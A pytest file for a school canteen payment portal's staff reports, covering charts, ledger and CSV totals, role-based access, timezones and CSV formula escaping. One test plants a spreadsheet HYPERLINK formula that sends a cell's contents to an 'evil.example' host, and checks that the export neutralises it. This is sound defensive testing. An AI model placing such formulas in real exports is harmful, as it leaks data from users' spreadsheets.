"""Staff reports in the portal: the chart, the numbers, the CSV files, and who sees them."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from fastapi import FastAPI
from sqlmodel import Session

from cardpay.accounts import school_account
from cardpay.ledger import balance_of
from cardpay.models import AccountKind
from parent_portal.app import create_app
from school.models import Classroom
from school.settings import Settings
from tests import factories
from tests.conftest import FakeClock
from tests.factories import SmallSchool
from tests.parent_portal.conftest import TestClient, signed_in
from tests.smtp import Inbox


@pytest.fixture
def served(session: Session, small_school: SmallSchool, clock: FakeClock) -> SmallSchool:
    """Three weeks of lunches at one till, up to today (Tuesday 24 November 2026)."""
    device = factories.till(session, small_school.school)
    today = clock.now.date()
    for back in range(21):
        day = today - timedelta(days=back)
        if day.weekday() in (2, 5, 6):
            continue
        for n, pupil in enumerate(small_school.pupils[: 1 + back % 3]):
            at = datetime.combine(day, datetime.min.time(), tzinfo=UTC) + timedelta(hours=11,
                                                                                    minutes=n)
            factories.meal(session, pupil, 350 + 50 * n, at=at, device=device)
    return small_school


def test_the_reports_page_draws_meals_per_day_without_script_or_inline_style(
    client: TestClient, served: SmallSchool
) -> None:
    signed_in(client, "office@example.org")
    assert "/staff/reports" in client.get("/staff").text
    page = client.get("/staff/reports")
    assert page.status_code == 200
    assert "script-src" not in page.headers["content-security-policy"]
    svg = re.search(r"<svg class=\"chart\".*?</svg>", page.text, re.S)
    assert svg is not None
    assert "style=" not in svg.group(0)
    assert "<script" not in page.text
    bars = re.findall(r"<title>([^<]+)</title>", svg.group(0))
    assert len(bars) == 17  # three weeks of weekdays, and this week's Monday and Tuesday
    assert bars[-1] == "24/11/2026: 1"
    assert "23/11/2026: 2" in bars
    assert "18/11/2026: 0" in bars  # Wednesday: no canteen


def test_meal_totals_match_the_ledger_and_the_csv(
    client: TestClient, served: SmallSchool, session: Session
) -> None:
    signed_in(client, "cashier@example.org")
    # By tariff band: for office and admins; a cashier has the day's takings.
    assert client.get("/staff/reports/meals?first=2026-11-01&last=2026-11-30").status_code \
        == 403
    assert client.get("/staff/reports/day?day=2026-11-23").status_code == 200
    client.cookies.clear()
    signed_in(client, "office@example.org")
    page = client.get("/staff/reports/meals?first=2026-11-01&last=2026-11-30")
    revenue = balance_of(session, school_account(session=session,
                                                 school_id=served.school.id or 0,
                                                 kind=AccountKind.MEAL_REVENUE))
    total = re.search(r'id="total-revenue">([^<]+)<', page.text)
    assert total is not None
    assert total.group(1) == f"{revenue // 100},{revenue % 100:02d}\u00a0€"
    download = client.get("/staff/reports/meals?first=2026-11-01&last=2026-11-30&format=csv")
    assert download.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in download.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(download.text)))
    assert sum(Decimal(r["revenue"]) for r in rows) * 100 == revenue
    assert {r["class"] for r in rows} == {"CP", "CE1"}
    assert all(re.fullmatch(r"\d+\.\d\d", r["revenue"]) for r in rows)


def test_end_of_day_and_statement_pages(client: TestClient, served: SmallSchool) -> None:
    signed_in(client, "office@example.org")
    day = client.get("/staff/reports/day?day=2026-11-23")
    assert day.status_code == 200
    assert "Till 1" in day.text
    assert "Compté" in day.text
    rows = list(csv.DictReader(io.StringIO(
        client.get("/staff/reports/day?day=2026-11-23&format=csv").text)))
    assert [(r["section"], r["name"], r["count"], r["amount"], r["expected_cash"])
            for r in rows] == [("till", "Till 1", "2", "7.50", ""),
                               ("drawer", "Till 1", "", "", "0.00")]
    lea = served.pupils[0]
    statement = client.get(f"/staff/pupils/{lea.id}/statement?first=2026-11-16&last=2026-11-24")
    assert statement.status_code == 200
    assert "Solde d&#39;ouverture" in statement.text
    lines = list(csv.reader(io.StringIO(client.get(
        f"/staff/pupils/{lea.id}/statement?first=2026-11-16&last=2026-11-24&format=csv").text)))
    opening, closing = Decimal(lines[1][5]), Decimal(lines[-1][5])
    assert opening + sum(Decimal(r[4]) for r in lines[2:-1]) == closing
    assert client.get("/staff/reports/meals?first=2026-11-30&last=2026-11-01").status_code == 400
    assert client.get("/staff/reports/day?day=yesterday").status_code == 400


def test_teachers_and_parents_get_no_reports(client: TestClient, served: SmallSchool) -> None:
    signed_in(client, "teacher@example.org")
    assert "/staff/reports" not in client.get("/staff").text
    assert client.get("/staff/reports").status_code == 403
    client.cookies.clear()
    signed_in(client, "parent@example.org")
    assert client.get("/staff/reports/day").status_code == 403


def test_the_outbox_worker_runs_with_the_app_when_smtp_is_set(
    settings: Settings, engine: object, smtp: Inbox, clock: FakeClock
) -> None:
    configured = settings.model_copy(update={"smtp_host": smtp.host, "smtp_port": smtp.port})
    app: FastAPI = create_app(configured, engine, clock=clock)  # type: ignore[arg-type]
    with TestClient(app):
        assert app.state.outbox is not None
    assert not app.state.outbox._thread.is_alive()
    bare = create_app(settings, engine, clock=clock)  # type: ignore[arg-type]
    with TestClient(bare):
        assert bare.state.outbox is None


def test_dates_in_reports_are_the_schools(session: Session, small_school: SmallSchool,
                                          client: TestClient) -> None:
    # 23:30 UTC on Monday is already Tuesday in Paris.
    factories.meal(session, small_school.pupils[0], 350,
                   at=datetime(2026, 11, 23, 23, 30, tzinfo=UTC))
    signed_in(client, "office@example.org")
    rows = list(csv.DictReader(io.StringIO(client.get(
        "/staff/reports/meals?first=2026-11-23&last=2026-11-24&format=csv").text)))
    assert [r["date"] for r in rows] == [date(2026, 11, 24).isoformat()]


def test_csv_exports_carry_no_spreadsheet_formulas(
    session: Session, served: SmallSchool, client: TestClient, clock: FakeClock
) -> None:
    """The review's two cells: a correction reason in the statement, a class name in the
    meals report. Both come out as text; amounts, negative ones included, stay numbers."""
    from cardpay import office
    from school.staff import Actor

    lea = served.pupils[0]
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"voir")'
    office.correct(session=session, pupil=lea, amount_cents=-350, reason=formula,
                   client_id="csv-formula", actor=Actor(user_id=served.office.id or 0), clock=clock)
    room = session.get(Classroom, lea.classroom_id)
    assert room is not None
    room.name = "=1+1 Class"
    session.add(room)
    session.commit()
    signed_in(client, "office@example.org")
    statement = list(csv.reader(io.StringIO(client.get(
        f"/staff/pupils/{lea.id}/statement?first=2026-11-16&last=2026-11-24&format=csv").text)))
    corrected = [r for r in statement if "HYPERLINK" in r[3]]
    assert [(r[3], r[4]) for r in corrected] == [("'" + formula, "-3.50")]
    meals = list(csv.DictReader(io.StringIO(client.get(
        "/staff/reports/meals?first=2026-11-01&last=2026-11-30&format=csv").text)))
    assert "'=1+1 Class" in {r["class"] for r in meals}
    assert not [cell for r in meals for cell in r.values() if cell.startswith("=")]
